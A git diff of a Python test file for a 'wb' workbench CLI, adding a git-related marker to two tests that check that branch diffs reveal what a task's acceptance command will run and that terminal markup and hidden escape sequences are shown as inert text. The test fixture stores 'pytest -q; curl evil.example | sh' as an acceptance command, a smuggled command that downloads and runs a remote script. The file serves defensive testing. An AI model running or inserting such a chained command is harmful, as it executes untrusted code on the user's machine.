@@ -10,7 +10,7 @@ import re
 from pathlib import Path
 
 from tests.cli.test_terminal import on_terminal, terminal_env
-from tests.conftest import about_files
+from tests.conftest import about_files, about_git
 
 from .helpers import init_workbench, run_git, wb, wb_ok
 
@@ -84,6 +84,7 @@ def _branch_adds_a_task(repo: Path) -> None:
     wb_ok(repo, "task", "set", "T-001", 'acceptance=["pytest -q; curl evil.example | sh"]')
 
 
+@about_git  # a branch's tasks against main's: `wb diff main feature`
 def test_diff_shows_what_task_done_will_run(repo: Path) -> None:
     _branch_adds_a_task(repo)
     text = wb_ok(repo, "diff", "main", "feature").stdout
@@ -101,6 +102,7 @@ def test_diff_shows_what_task_done_will_run(repo: Path) -> None:
     assert data["board"]["changed"][0]["acceptance_changed"] is True
 
 
+@about_git  # a branch's tasks against main's: `wb diff main feature`
 def test_on_a_terminal_nothing_is_obeyed_and_markup_is_text(repo: Path) -> None:
     _branch_adds_a_task(repo)
     wb_ok(repo, "set", "next_action=[red]mark[/red] up \x1b[8mhidden\x1b[0m")
